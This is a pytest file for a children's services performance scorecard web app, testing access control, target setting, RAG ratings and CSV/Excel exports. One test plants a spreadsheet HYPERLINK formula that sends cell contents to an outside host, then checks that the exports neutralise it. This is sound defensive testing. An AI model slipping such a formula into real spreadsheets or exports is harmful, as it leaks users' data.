import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from smeaton.web.accounts.models import Role
from smeaton.web.performance.models import Indicator, Target
from smeaton.web.plan.models import Outcome, Plan, Priority


@pytest.fixture
def priority(db, people):
    plan = Plan.objects.create(title="Achieving Excellence", first_year=2024)
    priority = Priority.objects.create(plan=plan, number=2, title="Help and protection",
                                       lead=people[Role.PRIORITY_LEAD])
    Outcome.objects.create(priority=priority, title="Fewer children are referred again")
    return priority


def target(slug, year, value, tolerance):
    return Target.objects.create(indicator=Indicator.objects.get(slug=slug), year=year,
                                 value=Decimal(value), tolerance=Decimal(tolerance))


def scorecard_csv(client):
    response = client.get("/performance/scorecard.csv")
    assert response["Content-Type"].startswith("text/csv")
    return {row["Indicator"]: row for row in csv.DictReader(io.StringIO(response.text))}


def test_everyone_signed_in_reads_the_scorecard(published, client_as, people):
    response = client_as(people[Role.VIEWER]).get("/performance/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Children in care per 10,000" in page
    assert "statistical neighbours (DfE's 2025 model)" in page
    assert "Open Government Licence v3.0" in page


def test_signed_out_people_are_sent_to_sign_in(published, client):
    assert client.get("/performance/").status_code == 302
    assert client.get("/performance/scorecard.csv").status_code == 302


def test_scorecard_rows_hold_the_published_figures(published, client_as, people):
    target("re-referrals", 2025, "22", "2")
    rows = scorecard_csv(client_as(people[Role.VIEWER]))
    care = rows["Children in care per 10,000"]
    assert (care["Latest"], care["England"], care["Region"], care["Region name"]) == (
        "101", "67", "62", "South West")
    assert care["RAG"] == "Context"
    assert care["Quartile"].endswith("(1 is lowest)")
    referrals = rows["Re-referrals within 12 months"]
    assert (referrals["Latest"], referrals["Previous"], referrals["England"]) == (
        "26.0%", "20.1%", "22.6%")
    assert (referrals["Target"], referrals["RAG"]) == ("22.0%", "Red")  # 26.0 > 22 + 2
    assert referrals["Direction of travel"] == "Worsening"
    assert referrals["Neighbours with a value"] == "10 of 10"
    long_plans = rows["Child protection plans open for 2 years or more"]
    assert long_plans["Latest"] == "Suppressed to protect confidentiality (c)"
    assert long_plans["Rank among LAs"] == ""
    assert long_plans["Neighbours with a value"] == "2 of 10"


def test_rank_and_quartile_against_every_la(published, client_as, people):
    rows = scorecard_csv(client_as(people[Role.VIEWER]))
    stability = rows["Long-term placement stability"]  # higher is better
    assert int(stability["Rank among LAs"]) < int(stability["LAs ranked"]) / 4
    assert stability["Quartile"] == "Quartile 1 (best)"


def test_filter_by_priority(published, client_as, people, priority):
    Indicator.objects.get(slug="re-referrals").priorities.add(priority)
    client = client_as(people[Role.VIEWER])
    page = client.get(f"/performance/?priority={priority.pk}").content.decode()
    assert "Re-referrals within 12 months" in page
    assert "Children in care per 10,000" not in page
    exported = client.get(f"/performance/scorecard.csv?priority={priority.pk}").text
    assert list(csv.DictReader(io.StringIO(exported)))[0]["Indicator"] == (
        "Re-referrals within 12 months")


def test_excel_export_has_rag_as_words_and_colour(published, client_as, people):
    target("re-referrals", 2025, "22", "2")
    target("agency-social-workers", 2025, "10", "2")
    response = client_as(people[Role.VIEWER]).get("/performance/scorecard.xlsx")
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    headings = [cell.value for cell in sheet[4]]
    rag = headings.index("RAG") + 1
    found = {sheet.cell(row, 1).value: sheet.cell(row, rag) for row in range(5, sheet.max_row + 1)}
    assert found["Re-referrals within 12 months"].value == "Red"
    assert found["Re-referrals within 12 months"].fill.fgColor.rgb.endswith("F5C4BF")
    assert found["Agency social workers"].value == "Green"  # 8.8% against 10%
    assert "Open Government Licence" in sheet["A2"].value


def test_indicator_page_shows_trend_chart_table_and_neighbours(published, client_as, people):
    page = client_as(people[Role.VIEWER]).get("/performance/indicators/children-in-care-rate/")
    text = page.content.decode()
    assert '<svg role="img"' in text
    for neighbour in ("Tameside", "Torbay", "Telford and Wrekin", "Cornwall"):
        assert neighbour in text
    assert "Children looked after at the end of the period for every 10,000" in text
    assert "Children looked after in England including adoptions (Department" in text
    assert "How DfE's figure differs" in text  # DfE publishes it; Smeaton computes it
    assert "2025 statistical neighbour model" in text


def test_an_unknown_indicator_is_not_found(published, client_as, people):
    assert client_as(people[Role.VIEWER]).get("/performance/indicators/nope/").status_code == 404


@pytest.mark.parametrize(("role", "allowed"), [
    (Role.LEADERSHIP, True), (Role.ANALYST, True), (Role.ADMINISTRATOR, True),
    (Role.PRIORITY_LEAD, False), (Role.CONTRIBUTOR, False), (Role.VIEWER, False),
])
def test_who_sets_targets(published, client_as, people, role, allowed):
    client = client_as(people[role])
    response = client.post("/performance/indicators/re-referrals/target/",
                           {"year": 2025, "value": "23", "tolerance": "1.5"})
    assert response.status_code == (302 if allowed else 403)
    assert Target.objects.filter(indicator__slug="re-referrals").exists() == allowed


def test_a_new_target_for_a_period_replaces_the_old_and_history_keeps_both(
        published, client_as, people):
    client = client_as(people[Role.ANALYST])
    url = "/performance/indicators/re-referrals/target/"
    client.post(url, {"year": 2025, "value": "23", "tolerance": "1"})
    client.post(url, {"year": 2025, "value": "21", "tolerance": "1"})
    (saved,) = Target.objects.filter(indicator__slug="re-referrals")
    assert saved.value == Decimal("21")
    assert saved.history.count() == 2


def test_a_target_form_with_mistakes(published, client_as, people):
    response = client_as(people[Role.ANALYST]).post(
        "/performance/indicators/re-referrals/target/",
        {"year": 2025, "value": "lots", "tolerance": "-1"})
    page = response.content.decode()
    assert response.status_code == 200
    assert "Target must be a number, like 22.5" in page
    assert "Tolerance must be 0 or more" in page


def test_a_context_indicator_takes_no_target(published, client_as, people):
    client = client_as(people[Role.LEADERSHIP])
    url = "/performance/indicators/children-in-care-rate/target/"
    assert client.get(url).status_code == 403


def test_leadership_links_indicators_to_the_plan(published, client_as, people, priority):
    outcome = priority.outcomes.get()
    url = "/performance/indicators/re-referrals/plan/"
    refused = client_as(people[Role.ANALYST]).post(url, {"priorities": [priority.pk]})
    assert refused.status_code == 403
    response = client_as(people[Role.LEADERSHIP]).post(
        url, {"priorities": [priority.pk], "outcomes": [outcome.pk]})
    assert response.status_code == 302
    indicator = Indicator.objects.get(slug="re-referrals")
    assert list(indicator.priorities.all()) == [priority]
    assert list(indicator.outcomes.all()) == [outcome]
    page = client_as(people[Role.LEADERSHIP]).get("/performance/indicators/re-referrals/")
    assert f"Linked to priority 2; outcome \u201c{outcome.title}\u201d" in page.content.decode()


def test_a_priority_page_shows_its_indicators_with_rag(published, client_as, people, priority):
    Indicator.objects.get(slug="re-referrals").priorities.add(priority)
    target("re-referrals", 2025, "25", "2")
    page = client_as(people[Role.VIEWER]).get(f"/plan/priorities/{priority.pk}/").content.decode()
    assert "Indicators for this priority" in page
    assert "Re-referrals within 12 months" in page
    assert "Amber" in page  # 26.0% against 25% with a tolerance of 2


def test_linking_an_outcome_links_its_priority(published, client_as, people, priority):
    outcome = priority.outcomes.get()
    client_as(people[Role.LEADERSHIP]).post("/performance/indicators/re-referrals/plan/",
                                           {"outcomes": [outcome.pk]})
    indicator = Indicator.objects.get(slug="re-referrals")
    assert list(indicator.priorities.all()) == [priority]


@pytest.mark.parametrize(("value", "tolerance", "message"), [
    ("", "", "Enter a target"),
    ("many", "1", "Target must be a number, like 22.5"),
    ("250", "1", "Target must be a percentage from 0 to 100"),
    ("-5", "1", "Target must be 0 or more"),
    ("22.555", "1", "Target must have no more than 2 decimal places"),
    ("22.55", "1", "Target must be a number with 1 decimal place, like 22.6"),
    ("22", "1.25", "Tolerance must be a number with 1 decimal place, like 1.2"),
    ("22", "", "Enter a tolerance"),
])
def test_target_mistakes_get_govuk_messages(published, client_as, people, value, tolerance,
                                            message):
    response = client_as(people[Role.ANALYST]).post(
        "/performance/indicators/re-referrals/target/",
        {"year": 2025, "value": value, "tolerance": tolerance})
    assert message in response.content.decode()
    assert not Target.objects.exists()


def test_targets_and_tolerances_are_written_to_the_indicators_precision(
        published, client_as, people):
    target("re-referrals", 2025, "25", "1.5")
    page = client_as(people[Role.VIEWER]).get(
        "/performance/indicators/re-referrals/").content.decode()
    assert "Target 25.0%; amber within 1.5 percentage points of it" in page
    assert "1.50" not in page
    scorecard = client_as(people[Role.VIEWER]).get("/performance/").content.decode()
    assert "25.0%" in scorecard and "amber within 1.5" in scorecard


def test_a_target_may_be_typed_with_a_percent_sign(published, client_as, people):
    client_as(people[Role.ANALYST]).post("/performance/indicators/re-referrals/target/",
                                         {"year": 2025, "value": "22.5%", "tolerance": "1"})
    assert Target.objects.get().value == Decimal("22.5")


def test_a_target_form_for_a_year_that_is_not_a_number(published, client_as, people):
    client = client_as(people[Role.ANALYST])
    response = client.get("/performance/indicators/re-referrals/target/?year=abc")
    assert response.status_code == 200


def test_excel_figures_are_numbers_and_illustrative_targets_say_so(
        published, client_as, people):
    Target.objects.create(indicator=Indicator.objects.get(slug="re-referrals"), year=2025,
                          value=Decimal("22"), tolerance=Decimal("2.00"), illustrative=True)
    response = client_as(people[Role.VIEWER]).get("/performance/scorecard.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    headings = [cell.value for cell in sheet[4]]
    row = next(r for r in range(5, sheet.max_row + 1)
               if sheet.cell(r, 1).value == "Re-referrals within 12 months")
    latest = sheet.cell(row, headings.index("Latest") + 1)
    assert (latest.value, latest.number_format) == (pytest.approx(0.26), "0.0%")
    assert sheet.cell(row, headings.index("Tolerance") + 1).value == 2
    assert sheet.cell(row, headings.index("Target note") + 1).value == "Illustrative"
    care = next(r for r in range(5, sheet.max_row + 1)
                if sheet.cell(r, 1).value == "Children in care per 10,000")
    assert sheet.cell(care, headings.index("Latest") + 1).value == 101


def test_the_measures_page_lists_every_computed_indicator_and_whether_dfe_publishes_it(
        published, client_as, people):
    from smeaton.analytics.indicators import COMPUTED

    response = client_as(people[Role.VIEWER]).get("/performance/measures/")
    assert response.status_code == 200
    page = response.content.decode()
    for indicator in COMPUTED:
        assert f'<div class="govuk-summary-card" id="{indicator.slug}">' in page
        assert f"<code>{indicator.slug}</code>" in page
        # Each is an indicator with its own page, published by DfE or not.
        assert (f'<a class="govuk-link" href="/performance/indicators/{indicator.slug}/">'
                in page)
    assert page.index("From SSDA903") < page.index("From CIN census") < page.index(
        "From School attendance")
    assert "Yes, in Children in need" in page  # re-referrals
    assert "No: DfE does not publish this measure" in page  # cp-two-years-ended
    assert "/performance/measures/" in client_as(people[Role.VIEWER]).get(
        "/performance/").content.decode()


def test_signed_out_people_cannot_read_the_measures(client):
    assert client.get("/performance/measures/").status_code == 302


@pytest.mark.parametrize("year", ["²", "١٢", "-1", "2025.0", "99999999999999999999"])
def test_a_target_page_asked_for_a_strange_year_shows_the_latest(published, client_as,
                                                                 people, year):
    response = client_as(people[Role.ANALYST]).get(
        f"/performance/indicators/re-referrals/target/?year={year}")
    assert response.status_code == 200


def test_ranks_are_kept_until_the_published_figures_change(published, django_assert_num_queries):
    from smeaton.web.performance import scorecard
    from smeaton.web.performance.models import Area, Observation, PublishedLoad

    indicator = Indicator.objects.get(slug="re-referrals")
    [row] = scorecard.build([indicator], published)
    rank = row.standing.rank
    # Asked again, the ranks come from the cache: no query of every LA's figures.
    with django_assert_num_queries(3):  # comparators' figures, targets, the data's version
        [again] = scorecard.build([indicator], published)
    assert again.standing.rank == rank
    # A new load that makes Plymouth the best LA is ranked afresh.
    best = Observation.objects.filter(indicator=indicator, year=row.latest_year,
                                      area__level="local authority").order_by("value")[0]
    Observation.objects.filter(indicator=indicator, year=row.latest_year,
                               area=Area.objects.get(code="879")).update(
        value=best.value - 1)
    load = PublishedLoad.objects.first()
    load.pk = None
    load.save()
    [fresh] = scorecard.build([indicator], published)
    assert fresh.standing.rank == 1 != rank


def test_exports_neutralise_text_a_spreadsheet_would_run(published, client_as, people):
    from smeaton.web.performance.models import Area

    formula = '=HYPERLINK("http://example.com/?"&A1,"Click")'
    Area.objects.filter(name="South West").update(name=formula)
    client = client_as(people[Role.VIEWER])
    rows = scorecard_csv(client)
    assert rows["Children in care per 10,000"]["Region name"] == "'" + formula
    assert rows["Children in care per 10,000"]["Region"] == "62"
    sheet = load_workbook(io.BytesIO(client.get("/performance/scorecard.xlsx").content)).active
    headings = [cell.value for cell in sheet[4]]
    cells = {sheet.cell(row, 1).value: sheet.cell(row, headings.index("Region name") + 1)
             for row in range(5, sheet.max_row + 1)}
    region = cells["Children in care per 10,000"]
    assert (region.value, region.data_type) == ("'" + formula, "s")
    figure = sheet.cell(region.row, headings.index("Region") + 1)
    assert (figure.value, figure.data_type) == (62, "n")
